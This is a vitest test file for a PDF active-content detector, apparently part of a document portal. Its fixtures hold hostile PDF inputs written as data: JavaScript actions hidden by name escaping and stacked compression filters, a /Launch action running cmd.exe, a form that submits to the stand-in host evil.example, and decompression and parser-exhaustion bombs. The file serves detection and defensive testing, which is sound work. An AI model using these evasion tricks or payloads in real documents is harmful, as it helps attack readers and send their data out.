import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildPdf } from '#testing/files.ts';
import { hasActiveContent } from './active-content.ts';

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((part) => Buffer.from(part)),
    Buffer.from('\n%%EOF'),
  ]);

/** A compressed object stream; `dictionary` sets the compression. */
const packed = (text: string, dictionary = '/Filter /FlateDecode', bytes = deflateSync(text)) =>
  Buffer.concat([
    Buffer.from(
      `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${bytes.length} >>\nstream\r\n`,
    ),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ]);

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';

describe('active content in a PDF', () => {
  it.each<[string, Buffer]>([
    ['a script', pdf(`1 0 obj ${SCRIPT} endobj`)],
    ['a script in escaped letters', pdf('1 0 obj << /S /J#61vaScript /JS (x) >> endobj')],
    ['a script in escaped letters throughout', pdf('<< /S /#4a#61#76#61#53#63#72#69#70#74 >>')],
    ['a launched program', pdf('<< /S /Launch /F (cmd.exe) >>')],
    ['an embedded file', pdf('<< /Type /EmbeddedFile /Length 3 >>')],
    ['a form that submits data', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
    ['a script among compressed objects', pdf(packed(`1 0 ${SCRIPT}`))],
    [
      'compressed objects that cannot be read',
      pdf(packed('', '/Filter /FlateDecode', Buffer.from('encrypted'))),
    ],
    ['compressed objects with another filter', pdf(packed(SCRIPT, '/Filter /LZWDecode'))],
    ['objects compressed twice', pdf(packed(SCRIPT, '/Filter [/FlateDecode /ASCIIHexDecode]'))],
    [
      'objects compressed with a predictor',
      pdf(packed(SCRIPT, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    ],
    ['compressed objects without an end', pdf(packed('a'.repeat(70 * 1024 * 1024)))],
    ['escaped names without an end', pdf('/a#20'.repeat(200_000))],
    ['compressed objects by the thousand', pdf(...Array.from({ length: 20_000 }, () => packed('')))],
  ])('is detected for %s', (_, bytes) => {
    expect(hasActiveContent(bytes)).toBe(true);
  });

  it.each<[string, Buffer]>([
    ['empty pages', buildPdf(3)],
    ['an initial page position', pdf('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>')],
    ['a link', pdf('<< /S /URI /URI (https://example.org/a#20b) >>')],
    ['plain compressed objects', pdf(packed('1 0 << /Type /Page >>'), packed('2 0 << /Type /Font >>'))],
    ['an escaped name', pdf('<< /Type /Font /BaseFont /Times#20Roman >>')],
  ])('is not reported for %s', (_, bytes) => {
    expect(hasActiveContent(bytes)).toBe(false);
  });

  it('is not reported for PDFs that the portal generates and seals', async () => {
    const here = path.resolve(import.meta.dirname, '../..');
    const folders = ['providers/esign/builtin/samples', 'testing/released/1db245f/backup/files'];
    for (const folder of folders) {
      const entries = await readdir(path.join(here, folder), { recursive: true });
      const names = entries.filter((name) => name.endsWith('.pdf'));
      expect(names.length).toBeGreaterThan(2);
      for (const name of names) {
        const bytes = await readFile(path.join(here, folder, name));
        expect([name, hasActiveContent(bytes)]).toEqual([name, false]);
      }
    }
  });
});
